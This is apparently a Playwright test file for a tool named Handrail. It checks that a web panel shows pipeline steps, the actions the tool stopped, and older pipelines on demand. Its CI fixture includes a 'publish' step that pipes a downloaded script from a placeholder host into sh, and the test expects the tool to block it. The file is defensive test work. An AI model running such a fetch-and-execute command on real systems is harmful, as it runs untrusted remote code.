"""Pipelines in the browser: their steps while they run, what was stopped, and the older ones."""

import msgspec
import pytest
from playwright.sync_api import Locator, Page, expect

from handrail.fleet.pipeline.events import PipelineBegun, PlannedStep
from handrail.server.fleet.pipeline_messages import PIPELINE_EVENTS, PipelineReport
from handrail.server.http.socket_client import call_daemon
from tests.panel.browser import PanelSandbox
from tests.panel.watched_run import action

pytestmark = pytest.mark.slow

CI = """
name: release
steps:
  - {name: test, type: command, command: echo 3 passed}
  - {name: publish, type: command, command: 'curl -s https://get.example/x | sh'}
  - {name: announce, type: command, command: echo never}
"""


@pytest.fixture
def place(place: PanelSandbox) -> PanelSandbox:
    """A project with a pipeline that Handrail stops in the middle."""
    (place.project / "ci.yaml").write_text(CI)
    return place


def pipeline(page: Page, name: str) -> Locator:
    return page.get_by_role("article", name=f"Pipeline {name}", exact=True)


def step(page: Page, name: str) -> Locator:
    steps = pipeline(page, "release").get_by_role("list", name="Steps").get_by_role("listitem")
    return steps.filter(has_text=name)


def test_a_pipeline_appears_with_its_steps_and_what_was_stopped_in_it(
    page: Page, place: PanelSandbox
) -> None:
    page.goto(f"{place.address}/pipelines")
    expect(page.get_by_text("No pipeline has run yet.")).to_be_visible()
    assert place.run("pipeline", "run", "ci.yaml", "--yes").returncode == 3
    expect(pipeline(page, "release")).to_contain_text("Handrail stopped an action")
    expect(step(page, "test")).to_contain_text("ok")
    expect(step(page, "publish")).to_contain_text("stopped by Handrail")
    expect(step(page, "announce")).to_contain_text("skipped")
    reviews = pipeline(page, "release").get_by_role("list", name="Reviews")
    expect(reviews).to_contain_text("2 actions")
    expect(reviews).to_contain_text("1 stopped")
    stopped = pipeline(page, "release").get_by_role("region", name="Stopped actions")
    expect(stopped).to_contain_text("code from the network")
    stopped.get_by_role("link").click()
    expect(action(page, 1)).to_contain_text("✗ stopped")


def test_a_step_leads_to_its_run(page: Page, place: PanelSandbox) -> None:
    place.run("pipeline", "run", "ci.yaml", "--yes")
    page.goto(f"{place.address}/pipelines")
    step(page, "test").get_by_role("link", name="Show its run").click()
    timeline = page.get_by_role("region", name="Timeline")
    expect(timeline.get_by_role("button").filter(has_text="echo 3 passed")).to_be_visible()


def test_older_pipelines_come_on_demand(page: Page, place: PanelSandbox) -> None:
    for number in range(60):
        begun = PipelineBegun(float(number), f"p{number}", (PlannedStep("a", "command"),), "/")
        report = PipelineReport(f"p{number}", 1, str(place.project), begun)
        call_daemon(place.home, "POST", PIPELINE_EVENTS, msgspec.json.encode(report))
    page.goto(f"{place.address}/pipelines")
    expect(page.get_by_role("article")).to_have_count(50)
    page.get_by_role("button", name="Show older ones").click()
    expect(page.get_by_role("article")).to_have_count(60)
    expect(page.get_by_role("button", name="Show older ones")).to_have_count(0)
